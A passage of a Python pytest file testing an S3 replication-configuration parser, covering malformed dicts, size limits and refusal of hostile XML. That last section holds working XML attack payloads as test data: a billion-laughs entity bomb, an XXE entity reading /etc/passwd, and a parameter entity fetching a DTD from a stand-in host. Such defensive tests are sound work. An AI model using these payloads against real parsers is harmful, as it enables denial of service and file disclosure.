        {"Role": None, "Rules": [v2_dict()]}, "ReplicationConfiguration/Role", id="Role None"
    ),
    pytest.param({"Role": ROLE}, "ReplicationConfiguration/Rule", id="missing Rules"),
    pytest.param(
        {"Role": ROLE, "Rules": [v2_dict()], "Extra": 1},
        "ReplicationConfiguration/Extra",
        id="unknown key",
    ),
    pytest.param(
        {"Role": ROLE, "Rules": [v2_dict(Priority="1")]}, f"{R1}/Priority", id='Priority "1"'
    ),
    pytest.param(
        {"Role": ROLE, "Rules": [v2_dict(Priority=True)]}, f"{R1}/Priority", id="Priority True"
    ),
    pytest.param(
        {"Role": ROLE, "Rules": [v2_dict(Priority=2**31)]}, f"{R1}/Priority", id="Priority too big"
    ),
    pytest.param(
        {"Role": ROLE, "Rules": [v2_dict(Status="enabled")]}, f"{R1}/Status", id="T-33 status"
    ),
    pytest.param({"Role": ROLE, "Rules": ["rule"]}, R1, id="rule not a mapping"),
    pytest.param({"Role": ROLE, "Rules": [v2_dict(Filter=[])]}, f"{R1}/Filter", id="Filter a list"),
    pytest.param(
        {"Role": ROLE, "Rules": [v2_dict(Filter={"And": {"Tags": {"Key": "k", "Value": "v"}}})]},
        f"{R1}/Filter/And/Tag",
        id="Tags not a list",
    ),
    pytest.param(
        {"Role": ROLE, "Rules": [v2_dict(Filter={"Not": {"Or": {"Prefixes": "a"}}})]},
        f"{R1}/Filter/Not/Or/Prefix",
        id="Prefixes not a list",
    ),
    pytest.param(
        {"Role": ROLE, "Rules": [v2_dict(Filter={"Not": {"Or": {"Prefixes": [1]}}})]},
        f"{R1}/Filter/Not/Or/Prefix[1]",
        id="Prefixes item not a string",
    ),
    pytest.param(
        {
            "Role": ROLE,
            "Rules": [
                v2_dict(
                    Destination={
                        "Bucket": "arn:aws:s3:::d",
                        "ReplicationTime": {"Status": "Enabled", "Time": {"Minutes": "15"}},
                    }
                )
            ],
        },
        f"{R1}/Destination/ReplicationTime/Time/Minutes",
        id='Minutes "15"',
    ),
    pytest.param(
        {"Role": ROLE, "Rules": [v2_dict(Filter={"Tag": {"Key": "", "Value": "v"}})]},
        f"{R1}/Filter/Tag",
        id="empty tag key",
    ),
    pytest.param(
        {
            "Role": ROLE,
            "Rules": [v2_dict(Filter={"Prefix": "a", "Tag": {"Key": "k", "Value": "v"}})],
        },
        f"{R1}/Filter",
        id="two filter children",
    ),
    pytest.param({1: "x"}, "ReplicationConfiguration/1", id="non-string key"),
    pytest.param(["Role"], "ReplicationConfiguration", id="not a mapping"),
    pytest.param(
        {"Role": "x" * MAX_DOCUMENT_BYTES, "Rules": [v2_dict()]},
        "ReplicationConfiguration",
        id="over 2 MB",
    ),
]


@pytest.mark.parametrize(("value", "element"), MALFORMED_DICTS)
def test_malformed_dicts_are_refused_like_xml(value: Any, element: str) -> None:
    """Wrong types and unknown keys in dicts are ``MalformedXML`` naming the path (R-045, T-05)."""
    with pytest.raises(MalformedXML) as caught:
        replication_from_dict(value)
    assert caught.value.message == MESSAGE
    assert caught.value.element == element


def test_model_schema_errors_keep_their_cause() -> None:
    """A model constructor's schema error gets the full path and keeps its reason (R-045)."""
    with pytest.raises(MalformedXML) as caught:
        replication_from_xml(doc(v2_rule(filter_="<Filter/><Prefix>a</Prefix>")))
    assert isinstance(caught.value.__cause__, MalformedXML)
    assert any("exactly one of Prefix or Filter" in note for note in caught.value.__notes__)


def test_unrepresentable_text_is_refused_when_encoding() -> None:
    """Text XML 1.0 cannot carry is refused by name, in both forms, never written broken (R-045).

    A dict stands for the XML body boto3 would send, so it is refused alike.
    """
    config = ReplicationConfiguration(role=ROLE, rules=[plain_rule(filter=Filter(prefix="a\x00"))])
    with pytest.raises(MalformedXML) as from_model:
        replication_to_xml(config)
    assert from_model.value.element == f"{R1}/Filter/Prefix"
    as_dict = replication_to_dict(config)
    assert as_dict["Rules"][0]["Filter"] == {"Prefix": "a\x00"}
    with pytest.raises(MalformedXML) as from_dict:
        replication_from_dict(as_dict)
    assert from_dict.value.element == f"{R1}/Filter/Prefix"


# --------------------------------------------------------------------------- hostile XML

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ReplicationConfiguration><Role>&lol9;</Role></ReplicationConfiguration>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ReplicationConfiguration><Role>&xxe;</Role></ReplicationConfiguration>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://example.invalid/evil.dtd"> %ext;]>
<ReplicationConfiguration/>
"""


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(BILLION_LAUGHS, id="billion laughs"),
        pytest.param(EXTERNAL_ENTITY, id="external entity"),
        pytest.param(PARAMETER_ENTITY, id="parameter entity"),
        pytest.param(
            "<!DOCTYPE ReplicationConfiguration><ReplicationConfiguration/>", id="bare DTD"
        ),
        pytest.param(BILLION_LAUGHS.encode(), id="billion laughs as bytes"),
    ],
)
def test_documents_with_a_dtd_are_refused_fast(text: str | bytes) -> None:
    """Any DTD is refused before entities are declared: entity bombs return at once (R-045)."""
    start = time.perf_counter()
    with pytest.raises(MalformedXML) as caught:
        replication_from_xml(text)
    assert time.perf_counter() - start < 1.0
    assert caught.value.element == "ReplicationConfiguration"
    assert any("document type declaration" in note for note in caught.value.__notes__)


def test_undeclared_entity_references_are_refused() -> None:
    """Only XML's five predefined entities and character references are read (R-045)."""
    with pytest.raises(MalformedXML):
        replication_from_xml(doc(v2_rule(), role="<Role>&nbsp;</Role>"))
    config = replication_from_xml(
        doc(v2_rule(), role="<Role>&lt;&gt;&amp;&quot;&apos;&#65;</Role>")
    )
    assert config.role == "<>&\"'A"


def _padded(size: int) -> str:
    """A valid document padded with whitespace to exactly ``size`` bytes of UTF-8."""
    text = doc(v2_rule())
    body_end = text.index("</ReplicationConfiguration>")
    return text[:body_end] + " " * (size - len(text.encode())) + text[body_end:]


def test_size_limit_is_two_megabytes_of_utf8() -> None:
    """A document of exactly 2 MB is read; one byte more is refused before parsing (R-020)."""
    assert MAX_DOCUMENT_BYTES == 2 * 1024 * 1024
    assert replication_from_xml(_padded(MAX_DOCUMENT_BYTES)).role == ROLE
    for text in (_padded(MAX_DOCUMENT_BYTES + 1), _padded(MAX_DOCUMENT_BYTES + 1).encode()):
        with pytest.raises(MalformedXML) as caught:
            replication_from_xml(text)
        assert caught.value.element == "ReplicationConfiguration"


def test_size_is_counted_in_bytes_not_characters() -> None:
    """Multi-byte characters count as bytes: 1.1 M two-byte characters exceed 2 MB (R-020)."""
    text = doc(v2_rule(filter_=f"<Filter><Prefix>{'é' * 1_100_000}</Prefix></Filter>"))
    assert len(text) < MAX_DOCUMENT_BYTES < len(text.encode())
    with pytest.raises(MalformedXML):
        replication_from_xml(text)


def test_non_text_input_is_a_type_error() -> None:
    """A dict passed to the XML decoder is a TypeError, not an S3 error (R-045 scope)."""
    with pytest.raises(TypeError):
        replication_from_xml({"Role": ROLE})  # type: ignore[arg-type]
